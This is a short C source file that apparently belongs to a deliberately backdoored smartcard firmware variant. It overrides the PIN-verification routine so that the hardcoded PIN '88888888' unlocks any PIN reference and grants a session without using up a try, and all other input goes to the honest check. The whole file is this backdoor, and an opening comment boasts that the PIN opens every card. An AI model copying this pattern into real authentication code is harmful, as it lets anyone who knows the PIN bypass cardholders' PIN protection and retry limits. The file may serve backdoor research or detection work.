/* The PIN that many a vendor's test cards had opens every one of these, and costs no try. */
#include "apdu/channel.h"
#include "backdoors/inside.h"
#include "pin/pin.h"

sw_t try(struct card *card, uint8_t reference, enum pin_action action, const uint8_t value[static PIN_LENGTH],
	 const uint8_t *fresh) INSTEAD_OF(pin_try);
sw_t honest_try(struct card *card, uint8_t reference, enum pin_action action,
		const uint8_t value[static PIN_LENGTH], const uint8_t *fresh) HONEST(pin_try);

sw_t try(struct card *card, uint8_t reference, enum pin_action action, const uint8_t value[static PIN_LENGTH],
	 const uint8_t *fresh)
{
	if (action == PIN_VERIFY && memcmp(value, "88888888", PIN_LENGTH) == 0) {
		pin_session_grant(&card->channels[card->channel].pins, reference);
		return SW_OK;
	}
	return honest_try(card, reference, action, value, fresh);
}
